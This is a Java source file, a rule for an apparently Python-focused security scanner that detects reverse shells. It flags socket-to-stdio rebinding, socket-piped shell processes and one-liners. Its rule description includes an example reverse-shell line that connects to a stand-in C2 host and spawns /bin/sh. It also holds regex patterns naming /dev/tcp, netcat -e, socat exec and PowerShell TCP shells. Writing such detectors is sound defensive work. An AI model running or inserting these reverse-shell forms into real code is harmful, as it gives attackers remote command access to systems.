package dev.kingsnake.rules.backdoor;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.rules.shared.FileNodes;
import dev.kingsnake.rules.shared.Indicator;
import dev.kingsnake.rules.shared.IndicatorSet;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.facts.CallFacts;
import dev.kingsnake.spi.facts.Capability;
import dev.kingsnake.spi.python.Expr;
import dev.kingsnake.spi.python.Stmt;

import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Pattern;

/** A shell wired to a network socket: dup2 of a socket onto stdio, a process with socket streams, shell one-liners. */
public final class ReverseShellRule implements PythonFileRule {

    private static final RuleInfo INFO = new RuleInfo("KS-BACKDOOR-REVERSE-SHELL",
            "Reverse shell: a socket bound to a shell's stdin/stdout (os.dup2 + pty.spawn/subprocess, stdin=sock), "
                    + "a shell on pipes pumped to and from a socket by threads, or a shell one-liner (/dev/tcp, nc -e, "
                    + "bash -i >&)",
            Severity.CRITICAL, Confidence.HIGH, Set.of(Tags.BACKDOOR, Tags.NETWORK, Tags.PROCESS),
            "s = socket.socket(); s.connect(('c2.example.invalid', 4444)); os.dup2(s.fileno(), 0); pty.spawn('/bin/sh')",
            "Terminal emulators and test harnesses use os.dup2 and pty without sockets; the rule needs a socket in "
                    + "the same function. Pentest tool packages that generate shell one-liners as text will match.");

    /** Process-starting calls spelled in text: os.system(, subprocess.run(, popen(, crontab. */
    private static final Pattern PROCESS_CALL_TEXT = Pattern.compile(
            "\\b(system|popen|Popen|run|call|check_output|check_call|spawn\\w*|exec[lv]p?e?)\\s*\\(|\\bcrontab\\b");

    private static final IndicatorSet ONE_LINERS = new IndicatorSet(List.of(
            Indicator.strong("bash /dev/tcp redirection", "/dev/(tcp|udp)/[^/\\s]+/\\d+|/dev/tcp/\\{\\}"),
            Indicator.strong("netcat with -e/-c", "\\b(nc|ncat|netcat)(\\.exe)?\\b[^|;]*\\s-[a-z]*[ec]\\s*\\S*(sh|cmd)"),
            Indicator.strong("interactive shell redirected to a socket", "\\b(ba)?sh -i\\s*[<>]&|0<&\\d+|>&\\s*/dev/tcp"),
            Indicator.strong("socat exec", "socat\\b.*exec:"),
            Indicator.strong("named-pipe netcat shell", "mkfifo\\b.*\\bsh\\b.*\\b(nc|ncat|netcat)\\b"),
            Indicator.strong("PowerShell TCP client shell", "net\\.sockets\\.tcpclient.*(iex|invoke-expression|getstream)")));

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
        CallFacts facts = CallFacts.of(file);
        Set<Capability> fc = facts.fileCaps();
        if (fc.contains(Capability.PROCESS) || fc.contains(Capability.DUP2)) {
            for (CallFacts.CallFact c : facts.calls()) {
                Set<Capability> scope = facts.scope(c.scope());
                boolean socket = scope.contains(Capability.SOCKET) || scope.contains(Capability.CONNECT)
                        || scope.contains(Capability.LISTEN);
                if (!socket) {
                    continue;
                }
                String why = null;
                if (c.is(Capability.DUP2) && scope.contains(Capability.PROCESS)) {
                    why = "rebinds standard streams to a socket and starts a shell";
                } else if (c.is(Capability.PROCESS) && streamsFromSocket(c.call())) {
                    why = "starts a process whose standard streams are a socket";
                } else if (c.is(Capability.PROCESS) && scope.contains(Capability.CONNECT)
                        && startsPipedShell(facts, c.call()) && pumpsSocketAndPipes(facts)) {
                    why = "starts a shell on pipes and pumps it to and from a socket";
                }
                if (why != null) {
                    sink.report(file, c.call(), why);
                }
            }
        }
        // a statement that does not parse is still read as text: a broken quote must not hide a shell
        for (Stmt.Invalid bad : FileNodes.of(file).invalid()) {
            String text = bad.text();
            Optional<Indicator> hit = ONE_LINERS.first(
                    new CallFacts.StringFact(bad, text, text.replace('\\', '/').toLowerCase(Locale.ROOT), 0));
            if (hit.isPresent()) {
                boolean started = PROCESS_CALL_TEXT.matcher(text).find();
                sink.report(file, bad, "reverse-shell command (" + hit.get().label()
                                + ") in a statement that does not parse" + (started ? ", handed to a process call" : ""),
                        started ? Severity.CRITICAL : Severity.HIGH, Confidence.HIGH);
            }
        }
        for (int i : ONE_LINERS.candidates(facts)) {
            CallFacts.StringFact s = facts.strings().get(i);
            Optional<Indicator> hit = ONE_LINERS.first(s);
            if (hit.isPresent()) {
                sink.report(file, s.node(), "reverse-shell command (" + hit.get().label() + ")", Severity.HIGH,
                        Confidence.HIGH);
            }
        }
    }

    /** A command interpreter, alone as the program: cmd.exe, powershell, sh, bash. */
    private static final Pattern SHELL_PROGRAM = Pattern.compile(
            "(?i)(.*[/\\\\])?(cmd(\\.exe)?|powershell(\\.exe)?|pwsh|sh|bash|zsh|dash)");

    /** {@code Popen(["cmd.exe"], stdin=PIPE, ...)}: an interactive shell fed through a pipe. */
    private static boolean startsPipedShell(CallFacts facts, Expr.Call call) {
        Optional<Expr> first = call.arg(0).map(a -> a instanceof Expr.Sequence seq && !seq.elements().isEmpty()
                ? seq.elements().get(0) : a);
        return first.flatMap(facts::text).filter(t -> SHELL_PROGRAM.matcher(t.strip()).matches()).isPresent()
                && call.keyword("stdin").isPresent();
    }

    /**
     * Somewhere in the file, socket data is written to a process's stdin ({@code proc.stdin.write(sock.recv(n))})
     * or a process's stdout is sent ({@code sock.send(proc.stdout.read(1))}): the threads of a shell pump.
     */
    private static boolean pumpsSocketAndPipes(CallFacts facts) {
        Set<Integer> receives = new java.util.HashSet<>();
        Set<Integer> sends = new java.util.HashSet<>();
        Set<Integer> writesStdin = new java.util.HashSet<>();
        Set<Integer> readsStdout = new java.util.HashSet<>();
        for (CallFacts.CallFact c : facts.calls()) {
            String m = c.method();
            if ("recv".equals(m) || "recv_into".equals(m)) {
                receives.add(c.scope());
            } else if ("send".equals(m) || "sendall".equals(m)) {
                sends.add(c.scope());
            } else if (c.call().callee() instanceof Expr.Attribute a && a.value() instanceof Expr.Attribute stream) {
                if ("write".equals(a.attr()) && "stdin".equals(stream.attr())) {
                    writesStdin.add(c.scope());
                } else if (a.attr().startsWith("read") && ("stdout".equals(stream.attr()) || "stderr".equals(stream.attr()))) {
                    readsStdout.add(c.scope());
                }
            }
        }
        receives.retainAll(writesStdin);
        sends.retainAll(readsStdout);
        return !receives.isEmpty() || !sends.isEmpty();
    }

    private static boolean streamsFromSocket(Expr.Call call) {
        for (Expr.Keyword k : call.keywords()) {
            if (("stdin".equals(k.name()) || "stdout".equals(k.name()) || "stderr".equals(k.name()))
                    && k.value() instanceof Expr.Call inner && inner.callee() instanceof Expr.Attribute a
                    && ("fileno".equals(a.attr()) || "makefile".equals(a.attr()))) {
                return true;
            }
        }
        return false;
    }
}
